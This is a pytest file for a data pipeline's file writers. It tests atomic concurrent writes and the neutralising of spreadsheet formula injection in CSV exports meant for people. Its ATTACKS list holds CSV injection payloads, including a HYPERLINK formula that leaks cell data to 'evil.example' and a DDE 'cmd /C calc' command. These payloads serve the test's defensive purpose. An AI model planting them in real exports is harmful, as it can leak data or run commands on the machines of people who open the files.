"""The shared file writers on real files: concurrent writers of one file each leave a whole file,
and CSV written for people cannot run a formula in a spreadsheet while Parquet keeps raw values."""

from __future__ import annotations

import csv
import gzip
import json
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import polars as pl
import pytest

from assets.core.writers import ParquetAppender, write_frame, write_lazy
from assets.pipelines.transform import write_file
from assets.reports.exports import EXPORT_TABLES, write_exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(9*9)",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
]
SAFE = ["plain", "a=b", "1-2", "", None]


def people_frame() -> pl.DataFrame:
    texts = ATTACKS + SAFE
    return pl.DataFrame(
        {
            "text": texts,
            "label": pl.Series(["=1+1"] * len(texts)).cast(pl.Categorical),
            "amount": [-5.5] * len(texts),
            "n": [-3] * len(texts),
        }
    )


def read_text_csv(path: Path) -> dict[str, list[str]]:
    """Each column's cells as the text a spreadsheet would get (the csv module's reading)."""
    opener = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "rt", newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    return {name: [row[i] for row in rows] for i, name in enumerate(header)}


def assert_neutralised(got: dict[str, list[str]]) -> None:
    assert got["text"][: len(ATTACKS)] == [f"'{a}" for a in ATTACKS]
    assert got["text"][len(ATTACKS) :] == ["plain", "a=b", "1-2", "", ""]
    assert set(got["label"]) == {"'=1+1"}
    assert set(got["amount"]) == {"-5.5"} and set(got["n"]) == {"-3"}


def test_exports_csv_is_neutralised_and_parquet_keeps_raw_values(tmp_path: Path) -> None:
    frame = people_frame()
    write_exports(lambda _table: frame.lazy(), tmp_path)
    table = next(iter(EXPORT_TABLES))
    assert_neutralised(read_text_csv(tmp_path / f"{table}.csv"))
    assert pl.read_parquet(tmp_path / f"{table}.parquet").equals(frame)
    exported = json.loads((tmp_path / f"{table}.json").read_text())
    assert [row["text"] for row in exported][: len(ATTACKS)] == ATTACKS


def test_pipeline_csv_destination_is_neutralised_and_parquet_raw(tmp_path: Path) -> None:
    frame = people_frame()
    assert_neutralised(read_text_csv(write_file(frame.lazy(), tmp_path / "p.csv", "csv")))
    assert pl.read_parquet(write_file(frame.lazy(), tmp_path / "p.parquet", "parquet")).equals(
        frame
    )


@pytest.mark.parametrize("fmt", ["csv", "csv.gz"])
def test_both_writers_neutralise_for_people_and_keep_landing_files_raw(
    tmp_path: Path, fmt: str
) -> None:
    frame = people_frame()
    write_frame(frame, tmp_path / f"people.{fmt}", fmt, for_people=True)
    write_lazy(frame.lazy(), tmp_path / f"lazy.{fmt}", fmt, batch_rows=4)
    write_frame(frame, tmp_path / f"landing.{fmt}", fmt)  # read back by the pipeline: raw
    assert_neutralised(read_text_csv(tmp_path / f"people.{fmt}"))
    assert_neutralised(read_text_csv(tmp_path / f"lazy.{fmt}"))
    assert read_text_csv(tmp_path / f"landing.{fmt}")["text"][: len(ATTACKS)] == ATTACKS


def big_frame(tag: str) -> pl.DataFrame:
    n = 200_000
    return pl.DataFrame({"i": range(n), "tag": [tag] * n, "x": [0.5] * n})


@pytest.mark.parametrize("fmt", ["json", "csv", "parquet", "xml"])
def test_concurrent_writers_of_one_file_each_leave_a_whole_file(tmp_path: Path, fmt: str) -> None:
    frames = {tag: big_frame(tag) for tag in ("a", "b")}
    export = tmp_path / "exports" / f"scores.{fmt}"
    destination = tmp_path / "pipelines" / f"revenue.{fmt}"

    def write(tag: str) -> None:
        write_lazy(frames[tag].lazy(), export, fmt, batch_rows=50_000)
        write_file(frames[tag].lazy(), destination, fmt)

    for _round in range(3):
        with ThreadPoolExecutor(max_workers=2) as pool:
            for future in [pool.submit(write, tag) for tag in ("a", "b", "a", "b")]:
                future.result()  # a shared temp name made one of these raise
        for path in (export, destination):
            text = path.read_bytes()
            if fmt == "json":
                tags = {row["tag"] for row in json.loads(text)}
                assert len(json.loads(text)) == 200_000 and len(tags) == 1
            elif fmt == "csv":
                assert pl.read_csv(path)["tag"].n_unique() == 1
            elif fmt == "parquet":
                assert pl.read_parquet(path).height == 200_000
            else:
                assert text.count(b"<record>") == 200_000 and text.endswith(b">\n")
            assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temp left


def test_a_failed_appender_leaves_the_old_file_and_no_temp(tmp_path: Path) -> None:
    path = tmp_path / "labels.parquet"
    pl.DataFrame({"a": [1]}).write_parquet(path)
    with pytest.raises(RuntimeError), ParquetAppender(path, {"a": pl.Int64}) as out:
        out.append(pl.DataFrame({"a": [2]}))
        raise RuntimeError("stop")
    assert pl.read_parquet(path)["a"].to_list() == [1]
    assert [p.name for p in tmp_path.iterdir()] == [path.name]
    with ParquetAppender(path, {"a": pl.Int64}) as out:
        out.append(pl.DataFrame({"a": [3]}))
    assert pl.read_parquet(path)["a"].to_list() == [3]
    assert path.stat().st_mode & 0o777 == 0o644
